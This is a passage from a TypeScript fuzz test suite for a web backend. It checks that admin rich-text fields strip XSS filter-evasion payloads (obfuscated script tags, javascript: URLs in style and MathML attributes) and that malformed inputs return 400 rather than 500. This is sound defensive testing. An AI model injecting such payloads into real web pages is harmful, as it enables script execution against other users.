            '<IMG SRC=JaVaScRiPt:alert(1)>',
            '<scr<script>ipt>alert(1)</scr</script>ipt>',
            '<p style="background:url(javascript:alert(1))">x</p>',
            '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
          ),
          shortString,
        ),
        { minLength: 1, maxLength: 6 },
      )
      .map((parts) => parts.join(' '));
    const targets: [string, (value: string) => Promise<Response>, (body: Record<string, unknown>) => unknown][] = [
      [
        'SEO description',
        (v) => t.http.put(`/api/admin/dashboard/update/${f.descriptionId}`).set('Authorization', `Bearer ${t.adminToken}`).send({ headingH1: 'Heading', headingH2: 'Heading', description: v }),
        (b) => b.description,
      ],
      ['blog post', (v) => t.http.post('/api/admin/blogs').set('Authorization', `Bearer ${t.adminToken}`).field('title', 'Rich text test').field('description', v), (b) => b.description],
      ['location description', (v) => t.http.put('/api/admin/locations/update/1').set('Authorization', `Bearer ${t.adminToken}`).field('locationDescription', v), (b) => b.locationDescription],
    ];
    for (const [name, send, stored] of targets) {
      await fc.assert(
        fc.asyncProperty(html, async (value) => {
          inputs++;
          const res = await send(value);
          expect(res.status).toBeLessThan(500);
          if (res.status < 300) expect({ name, tags: dangerousTags(String(stored(res.body) ?? '')) }).toEqual({ name, tags: [] });
        }),
        { numRuns: Math.ceil(15 * SCALE), seed: SEED },
      );
    }
  });

  describe('bugs the fuzzing found, fixed (each found a 500)', () => {
    const json = (method: 'post' | 'put', path: string, token: string | undefined, body: string, headers: Record<string, string> = {}) => {
      let req = t.http[method](path).set({ 'Content-Type': 'application/json', ...headers });
      if (token) req = req.set('Authorization', `Bearer ${token}`);
      return req.send(body);
    };
    const expectRefused = async (calls: [string, Promise<Response>][]) => {
      const answers = [];
      for (const [name, call] of calls) {
        const res = await call;
        answers.push({ name, status: res.status, detail: typeof res.body.detail });
      }
      expect(answers).toEqual(calls.map(([name]) => ({ name, status: 400, detail: 'string' })));
    };

    // BUG-1: validator's isEmail measures length with encodeURI(), which throws URIError on a lone UTF-16 surrogate ("\ud800" is valid JSON): 500.
    test('BUG-1: an e-mail holding a lone surrogate is a 400, not a 500 (login, sign-up, admin user create)', async () => {
      const before = await fingerprint(t);
      await expectRefused([
        ['POST /api/auth/login', json('post', '/api/auth/login', undefined, '{"email":"\\ud800@example.com","password":"whatever-password"}')],
        ['POST /api/admins', json('post', '/api/admins', undefined, '{"fullName":"Lone Surrogate","email":"\\ud800@example.com","password":"long-enough-password"}', await solvedChallenge(t))],
        ['POST /api/admin/ra/users', json('post', '/api/admin/ra/users', t.adminToken, '{"fullName":"Lone Surrogate","email":"\\ud800","password":"long-enough-password"}')],
      ]);
      expect(await fingerprint(t)).toBe(before);
    });

    // BUG-2: class-validator's IsNumber({maxDecimalPlaces}) does String(value).split('.')[1].length; 1e-7 prints without a '.', so it throws TypeError: 500.
    test('BUG-2: an amount like 1e-7 is a 400, not a 500 (add-money, package create and update)', async () => {
      const before = await fingerprint(t);
      await expectRefused([
        ['POST /api/seller/transaction/add-money', json('post', '/api/seller/transaction/add-money', f.sellerA.token, '{"amount":1e-7,"upiId":"payer@okaxis","transactionId":"987654321012"}')],
        ['POST /api/admin/packages', json('post', '/api/admin/packages', t.adminToken, '{"name":"Tiny","amount":1e-7,"durationDays":3}')],
        [`PUT /api/admin/packages/${f.packageId}`, json('put', `/api/admin/packages/${f.packageId}`, t.adminToken, '{"amount":1e-7}')],
      ]);
      expect(await fingerprint(t)).toBe(before);
    });

    // BUG-3: UpdateSeoDescriptionDto marks its fields @IsOptional(), which lets null through to a NOT NULL column: 500.
    test('BUG-3: PUT /api/admin/ra/descriptions/{id} with a null field is a 400, not a 500', async () => {
      const hash = await contentHash(t);
      await expectRefused(
        ['headingH1', 'headingH2', 'description'].map((field): [string, Promise<Response>] => [field, json('put', `/api/admin/ra/descriptions/${f.descriptionId}`, t.adminToken, `{"${field}":null}`)]),
      );
      expect(await contentHash(t)).toBe(hash);
    });

    // BUG-4: PageMetaService.compute() calls decodeURIComponent() on each storefront path segment unguarded: URIError, 500.
    test('BUG-4: a storefront page path with a broken %-escape is a 400 or 404, not a 500', async () => {
      const answers = [];
      for (const path of ['/%zz', '/%E0%A4', '/women-seeking-men/%C0%AE', '/ad/%zz/1']) answers.push([path, (await t.http.get(path)).status]);
      expect(answers.filter(([, status]) => Number(status) >= 500)).toEqual([]);
    });
  });

  it('left nothing in Object.prototype (no prototype pollution from bodies or queries)', () => {
    const probeObject = {} as Record<string, unknown>;
    expect([probeObject.role, probeObject.isAdmin, probeObject.polluted, probeObject.x]).toEqual([undefined, undefined, undefined, undefined]);
    console.log(`fuzz (${t.engine}): ${inputs} inputs over ${routes.length} routes in ${Math.round((Date.now() - started) / 1000)} s`);
  });
});
